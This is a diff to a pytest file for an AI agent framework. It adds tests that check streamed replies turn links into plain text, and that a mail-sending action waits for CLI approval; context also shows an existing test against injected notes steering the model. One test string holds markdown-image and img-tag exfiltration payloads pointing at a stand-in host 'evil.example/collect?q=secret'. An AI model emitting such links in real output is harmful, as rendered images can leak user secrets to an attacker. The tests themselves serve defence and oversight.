@@ -9,6 +9,7 @@ real tools, and on the local profile's real backbone.
 from __future__ import annotations
 
 import json
+from pathlib import Path
 
 import pytest
 from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
@@ -197,3 +198,42 @@ def test_the_local_backbone_is_not_steered_by_injected_notes(tmp_path):
     finally:
         runtime.close()
     assert on["attack_success"] == 0, [r for r in on["rows"] if r["attacked"]]
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7, 50])
+def test_streamed_replies_make_links_plain_however_they_are_cut(size):
+    from graphs.reply import PlainLinkStream
+
+    text = ('Parking is north [1]. ![logo](https://evil.example/collect?q=secret) <img src="https://evil.example/b.png">'
+            " a < b and [x](http://y) done!")
+    out: list[str] = []
+    stream = PlainLinkStream(out.append)
+    for i in range(0, len(text), size):
+        stream(text[i:i + size])
+    stream.flush()
+    assert "".join(out) == plain_links(text)
+
+
+def test_the_cli_approves_with_yes_and_otherwise_leaves_the_action_waiting(tmp_path, tiny_profile, monkeypatch):
+    import argparse
+
+    from agent.config import AgentConfig
+    from agent.runtime import Runtime
+    from agent.turn_commands import _confirm
+
+    monkeypatch.syspath_prepend(str(Path(__file__).parents[1] / "examples"))
+    monkeypatch.setenv("SIGNALGRAPH_OUTBOX", str(tmp_path / "outbox"))
+    mail = {"id": "m", "name": "send_mail", "args": {"to": "bob@example.com", "text": "hi"}}
+    thinker = ScriptedThinker(ThinkResult("", [mail]), ThinkResult("Not sent."), ThinkResult("", [mail]),
+                              ThinkResult("Sent."))
+    config = AgentConfig(data_dir=tmp_path / "data", allowed_dirs=[tmp_path], extra_tools=["mail_tool:send_mail"])
+    runtime = Runtime(config, tiny_profile, thinker=thinker)
+    monkeypatch.setattr("sys.stdin.isatty", lambda: False)
+    asked = runtime.controller.turn("cli", "Mail bob@example.com: hi")
+    waiting = _confirm(runtime, asked, argparse.Namespace(yes=False, json=False), None)
+    assert "signalgraph ask --session cli yes" in waiting.notices[-1] and not (tmp_path / "outbox").exists()
+    runtime.controller.turn("cli", "no")
+    asked = runtime.controller.turn("cli", "Mail bob@example.com: hi")
+    done = _confirm(runtime, asked, argparse.Namespace(yes=True, json=False), None)
+    assert done.text == "Sent." and len(list((tmp_path / "outbox").iterdir())) == 1
+    runtime.close()
